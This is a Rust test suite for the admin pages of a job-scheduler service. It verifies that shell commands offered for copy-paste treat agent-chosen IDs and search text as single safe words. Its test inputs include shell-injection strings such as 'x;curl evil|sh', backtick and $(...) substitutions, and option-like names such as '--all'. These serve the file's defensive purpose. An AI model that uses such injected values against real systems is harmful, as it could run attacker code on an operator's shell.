//! The commands of pages: an operator pastes them into a shell, and agents choose the IDs in them.

use clap::CommandFactory as _;
use clap::error::ErrorKind;
use nas_cron::cli::Cli;

use super::fixture::{Ops, Page, every_page, job, unescaped, with};

/// Returns the commands of a page that are copied with a click.
fn commands(page: &Page) -> Vec<String> {
    page.html.split("data-copy=\"").skip(1).map(|rest| unescaped(rest.split('"').next().unwrap())).collect()
}

/// Returns the words of a command, as a shell reads them. The program itself is not run: the words are only printed.
fn words(command: &str) -> Vec<String> {
    let shell = format!("printf '%s\\n' {command}");
    let output = std::process::Command::new("sh").env_clear().args(["-c", &shell]).output().unwrap();
    assert!(output.stderr.is_empty(), "{command}: {output:?}");
    std::str::from_utf8(&output.stdout).unwrap().lines().map(str::to_owned).collect()
}

/// Fails unless the command line has such a command, with these words.
fn require_valid(command: &str) -> Vec<String> {
    // Of a pipeline, the list that it begins with.
    let words = words(command.split(" | jq ").next().unwrap());
    if let Err(error) = Cli::command().try_get_matches_from(&words) {
        // A fix may name a command with its help.
        assert_eq!(error.kind(), ErrorKind::DisplayHelp, "{command}: {error}");
    }
    words
}

#[tokio::test]
async fn command_with_the_id_of_an_agent_is_one_command_about_it() {
    let ops = Ops::new().await;
    let operator = ops.admin().await;
    for name in ["a`;x`", "--all", "-n", "x;curl evil|sh", "nas-cron jobs cancel inst-1 a", "it's $HOME"] {
        ops.armed(name).await;
        ops.world
            .sql("UPDATE one_shots SET state = 'dead', dead_since = now(), next_attempt_at = NULL, last_error = '`sh`'")
            .await;
        let page = operator.get(&job(name)).await;
        assert_eq!(page.status, 200, "{}", page.html);
        let found = commands(&page);
        // Redrive is in the fix and in the actions; the others are hold, cancel and show.
        assert_eq!(found.len(), 5, "{found:?}");
        for command in found {
            let words = require_valid(&command);
            let is_about = words.iter().any(|word| word == name || word.ends_with(&format!("={name}")));
            assert!(is_about && words.iter().any(|word| word == "inst-1"), "{command}: {words:?}");
        }

        // Redrive has the one-shot.
        let dismiss = page.form("redrive_job");
        let notice = operator.done("dismiss_job", &dismiss).await;
        assert!(notice.html.contains("is not dormant; <code>nas-cron jobs show "), "{}", notice.html);
        let shown =
            notice.html.split("is not dormant; <code>").nth(1).unwrap().split("</code>").next().unwrap();
        assert_eq!(require_valid(&unescaped(shown)).last().map(String::as_str), Some(name));
        assert_eq!(
            commands(&notice).len(),
            5,
            "nothing of the notice is copied with a click: {}",
            notice.html
        );

        let missing = operator.get(&job(&format!("{name}2"))).await;
        assert_eq!((missing.status, commands(&missing)), (404, vec![]), "{}", missing.html);
        assert!(
            missing.html.contains("<code>nas-cron jobs list --instance inst-1</code>"),
            "{}",
            missing.html
        );
        let form = with(&page.form("cancel_job"), "submission_id", &uuid::Uuid::new_v4().to_string());
        assert_eq!(operator.act("cancel_job", &form).await.status, 303);
    }
    let path = "/ops/agent?instance_id=nas-cron+hold+--all";
    assert_eq!(commands(&operator.get(path).await), Vec::<String>::new());
}

#[tokio::test]
async fn command_for_all_matching_jobs_is_about_each_of_them() {
    let ops = Ops::new().await;
    let operator = ops.admin().await;
    for name in ["it's", "--all", "a b"] {
        ops.armed(name).await;
    }
    let (status, list) = ops.world.service.admin("GET", "/api/admin/jobs?instance_id=inst-1", None).await;
    assert_eq!(status, 200, "{list}");
    for operation in ["hold_job", "release_job", "fire_job", "cancel_job"] {
        let page = operator.get(&format!("/ops/batch?operation={operation}&instance_id=inst-1")).await;
        let commands = commands(&page);
        assert_eq!(commands.len(), 1, "{}", page.html);
        require_valid(&commands[0]);
        // The list of the command, with the shell left out: it would run them.
        let (_, program) = commands[0].split_once(" | ").unwrap();
        let jq = program.strip_suffix(" | sh").unwrap();
        let shell = format!("{jq} <<'END'\n{list}\nEND");
        let output = std::process::Command::new("sh").args(["-c", &shell]).output().unwrap();
        let lines: Vec<_> = std::str::from_utf8(&output.stdout).unwrap().lines().collect();
        assert_eq!(lines.len(), 3, "{shell}: {output:?}");
        for (line, job) in lines.into_iter().zip(list["jobs"].as_array().unwrap()) {
            let (words, name) = (require_valid(line), job["job_id"].as_str().unwrap());
            assert!(words.iter().any(|word| word == name || *word == format!("--job={name}")), "{words:?}");
        }
    }
}

#[tokio::test]
async fn text_of_a_search_is_one_word_of_its_command() {
    let ops = Ops::new().await;
    let operator = ops.admin().await;
    for (text, option) in [("a' $(x)", "a' $(x)"), ("-inst", "--search=-inst")] {
        let query = url::form_urlencoded::Serializer::new(String::new()).append_pair("search", text).finish();
        let page = operator.get(&format!("/ops/agents?org_id=org-1&disabled=true&{query}")).await;
        let commands = commands(&page);
        assert_eq!(commands.len(), 1, "{}", page.html);
        let words = require_valid(&commands[0]);
        assert!(words.iter().any(|word| word == option), "{words:?}");
        assert!(["org-1", "--disabled"].iter().all(|one| words.iter().any(|word| word == one)), "{words:?}");
    }
}

#[tokio::test]
async fn every_command_of_every_page_is_valid() {
    let ops = Ops::new().await;
    let operator = ops.admin().await;
    for name in ["one", "two"] {
        ops.armed(name).await;
    }
    ops.world
        .sql("UPDATE one_shots SET state = 'dead', dead_since = now(), next_attempt_at = NULL WHERE job_id = 'two'")
        .await;
    ops.world
        .sql(
            "INSERT INTO holds (scope, scope_id) VALUES ('org', 'org-1'), ('instance', 'inst-1');
             INSERT INTO job_holds (instance_id, job_id) VALUES ('inst-1', 'one')",
        )
        .await;
    let mut checked = 0;
    for path in every_page("inst-1", "two") {
        let page = operator.get(&path).await;
        for command in commands(&page) {
            require_valid(&command);
            checked += 1;
        }
    }
    assert!(checked > 40, "{checked}");
}
